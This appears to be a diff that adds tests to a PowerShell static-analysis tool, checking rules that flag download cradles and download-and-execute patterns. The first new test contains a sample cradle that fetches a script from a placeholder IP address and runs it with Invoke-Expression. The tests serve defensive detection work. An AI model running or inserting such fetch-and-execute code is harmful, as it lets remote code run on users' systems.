@@ -198,3 +198,30 @@ def test_parameters_powershell_7_added_are_compatibility_notes() -> None:
     """)
     assert lines_of(result, "PSCompatibilityPowerShell7Parameter") == [1, 2, 3]
     assert {f.rule for f in hits(result, "PSCompatibilityPowerShell7Parameter")} == {"PSUseCompatibleCommands"}
+
+
+def test_web_request_response_executed_is_a_cradle() -> None:
+    result = analyze("""
+        $request = [System.Net.WebRequest]::Create('http://198.51.100.61/s.ps1')
+        $response = $request.GetResponse()
+        $reader = New-Object System.IO.StreamReader($response.GetResponseStream())
+        Invoke-Expression $reader.ReadToEnd()
+        $status = ([System.Net.WebRequest]::Create($healthUrl)).GetResponse().StatusCode
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [2]
+    assert hits(result, "PSNetWebClientDownload") == []
+
+
+def test_download_verified_before_it_runs_is_not_download_and_execute() -> None:
+    verified = analyze("""
+        Invoke-WebRequest -Uri $url -OutFile $installer
+        $signature = Get-AuthenticodeSignature -FilePath $installer
+        if ($signature.Status -ne 'Valid') { throw 'unsigned' }
+        Start-Process -FilePath 'msiexec.exe' -ArgumentList '/i', $installer, '/qn' -Wait
+    """)
+    assert hits(verified, "PSDownloadAndExecute") == []
+    unverified = analyze("""
+        Invoke-WebRequest -Uri $url -OutFile $installer
+        Start-Process -FilePath 'msiexec.exe' -ArgumentList '/i', $installer, '/qn' -Wait
+    """)
+    assert lines_of(unverified, "PSDownloadAndExecute") == [1]
